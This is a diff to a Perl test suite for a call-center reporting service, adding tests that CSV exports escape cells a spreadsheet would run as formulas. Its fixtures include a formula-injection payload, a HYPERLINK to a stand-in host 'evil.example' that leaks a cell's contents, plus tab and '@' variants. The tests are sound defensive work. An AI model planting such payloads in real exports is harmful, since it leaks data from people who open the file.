@@ -75,6 +75,7 @@ plan tests =>
   + 5 * 6 + 1 + 1               # CSV
   + 2 * @bad + 3 + 5            # 400s, 405s, HEAD
   + 3                           # the longest range: 366 days
+  + 6                           # CSV cells that would be formulas
   + 4 + 4 + 2                   # the HTML as sent: English, Japanese, thresholds
   + 2                           # Chromium is there, its console check works
   + 31                          # the seeded day's page in Chromium
@@ -458,7 +459,10 @@ for my $r (['2023-12-31', '2024-01-01', 48], ['2024-02-28', '2024-03-01', 72]) {
                 or diag(join "\n", map { "$_: csv " . ($row{$_} // 'undef') . ", json " . ($json->{$_} // 'undef') } @wrong);
         } else {
             is_deeply($head, $header{$table}, "CSV $table: header row");
-            my @got = map { my %h; @h{@$head} = @$_; \%h } @{ $rows || [] };
+            # a text cell a spreadsheet would run as a formula starts with
+            # an apostrophe (SPEC 17): the value is what follows it
+            my @got = map { my %h; @h{@$head} = map { defined $_ ? s/\A'(?=[=+\-\@\t\r])//r : $_ } @$_; \%h }
+                      @{ $rows || [] };
             my $want = $json_rows{$table} // [];
             if ($table eq 'abandoned') {
                 $_->{time} = iso($_->{time}) for @got;
@@ -468,7 +472,8 @@ for my $r (['2023-12-31', '2024-01-01', 48], ['2024-02-28', '2024-03-01', 72]) {
                 or diag(explain(\@got));
         }
         if ($table eq 'abandoned') {
-            ok(index($body, '"+1 555 ""Q"", x"') >= 0, 'CSV abandoned: a From with a comma and quotes is quoted, quotes doubled')
+            ok(index($body, q{"'+1 555 ""Q"", x"}) >= 0,
+               'CSV abandoned: a From with a comma and quotes is quoted, quotes doubled (and, starting with +, as text)')
                 or diag($body);
         }
     }
@@ -706,6 +711,26 @@ sub hour_bars {
     my $h1 = $doc ? decode('UTF-8', encode('UTF-8', $doc->findvalue('//h1'))) : '';
     ok($lang eq 'ja' && index($h1, "\x{30b3}\x{30fc}\x{30eb}\x{30bb}\x{30f3}\x{30bf}\x{30fc}") >= 0,
        "$name: lang=\"ja\", the heading says コールセンター") or diag("lang '$lang', h1 '" . encode('UTF-8', $h1) . "'");
+}
+
+# CSV cells a spreadsheet would run as formulas (SPEC 17): each written as
+# text, an apostrophe first, in quotes; a +81 number stays text; an
+# ordinary cell unchanged.  Rows made through the webhook, today.
+{
+    my @from = ('=HYPERLINK("http://evil.example/?"&A1,"x")', '+819012345678', '-2+3', '@SUM(A1:A9)',
+                "\tcmd", 'plain 0312345678');
+    my %want = ('=HYPERLINK("http://evil.example/?"&A1,"x")' => q{"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"},
+                '+819012345678' => q{"'+819012345678"}, '-2+3' => q{"'-2+3"}, '@SUM(A1:A9)' => q{"'@SUM(A1:A9)"},
+                "\tcmd" => qq{"'\tcmd"}, 'plain 0312345678' => 'plain 0312345678');
+    for my $f (@from) {
+        post('/minicc/exit', [CallSid => sid(), From => $f, QueueResult => 'hangup', QueueTime => 99]);
+    }
+    my $body = report_get('/minicc/report', format => 'csv', table => 'abandoned')->content;
+    my %cell = map { /\A((?:"(?:[^"]|"")*")|[^,]*),/ ? ($1 => 1) : () } split /\r\n/, $body;
+    for my $f (@from) {
+        ok($cell{$want{$f}}, 'CSV: From ' . ($f =~ s/\t/\\t/r) . " written as $want{$f}" =~ s/\t/\\t/r)
+            or diag($body);
+    }
 }
 
 # A screenshot for people to look at: t/logs/report.png.
